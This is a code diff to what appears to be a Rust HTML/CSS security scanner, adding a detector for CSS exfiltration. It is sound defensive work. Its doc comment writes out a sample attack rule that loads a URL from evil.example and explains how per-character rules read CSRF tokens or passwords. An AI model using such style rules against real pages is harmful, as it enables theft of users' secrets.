@@ -233,6 +233,53 @@ pub(crate) fn css_active(v: &[u8], set: &[&[u8]]) -> Option<usize> {
     set.iter().find_map(|n| search::find(&clean, n))
 }
 
+/// `input[value^=a]{background:url(//evil.example/a)}`: a rule that
+/// matches an input by the start, end or part of its value and then loads
+/// a URL from another host. One such rule per character reads a CSRF token
+/// or a password out of the page without script (CSS exfiltration); a
+/// style sheet styles fields by type or name, not by what is typed in them.
+pub(crate) fn css_exfiltration(sheet: &[u8]) -> bool {
+    if !search::contains_ci(sheet, b"[value") {
+        return false;
+    }
+    let clean = css_clean(sheet);
+    let mut from = 0;
+    // Selectors read: a sheet of many rules stays linear.
+    for _ in 0..64 {
+        let Some(i) = search::find(&clean[from..], b"[value") else {
+            return false;
+        };
+        let at = from + i + b"[value".len();
+        from = at;
+        let Some(close) = clean[at..].iter().take(64).position(|&b| b == b']') else {
+            continue;
+        };
+        let op = &clean[at..at + close];
+        if !(op.starts_with(b"^=") || op.starts_with(b"$=") || op.starts_with(b"*=")) {
+            continue;
+        }
+        let rest = &clean[at + close..];
+        let Some(open) = rest.iter().take(256).position(|&b| b == b'{') else {
+            continue;
+        };
+        let block = &rest[open..];
+        let block = &block[..block.iter().position(|&b| b == b'}').unwrap_or(block.len())];
+        let mut u = 0;
+        while let Some(k) = search::find(&block[u..], b"url(") {
+            let arg = &block[u + k + 4..];
+            let arg = arg
+                .strip_prefix(b"'")
+                .or_else(|| arg.strip_prefix(b"\""))
+                .unwrap_or(arg);
+            if remote(arg) {
+                return true;
+            }
+            u += k + 4;
+        }
+    }
+    false
+}
+
 /// `@\69mport`, `@\`: an at-rule whose name starts with a CSS escape. No
 /// style sheet spells `@media` or `@font-face` that way; the escape hides
 /// `@import` (which loads a sheet, and in old browsers script) from a
@@ -753,6 +800,7 @@ fn start_tag(src: &[u8], tag: &Tag, depth: u8, style_end: &mut usize) -> Option<
             let sheet = &src[tag.span.end..body_end];
             css_active(sheet, CSS_ACTIVE)
                 .or_else(|| escaped_at_rule(sheet))
+                .or_else(|| css_exfiltration(sheet).then_some(0))
                 .map(|_| 10)
         }
         _ => None,
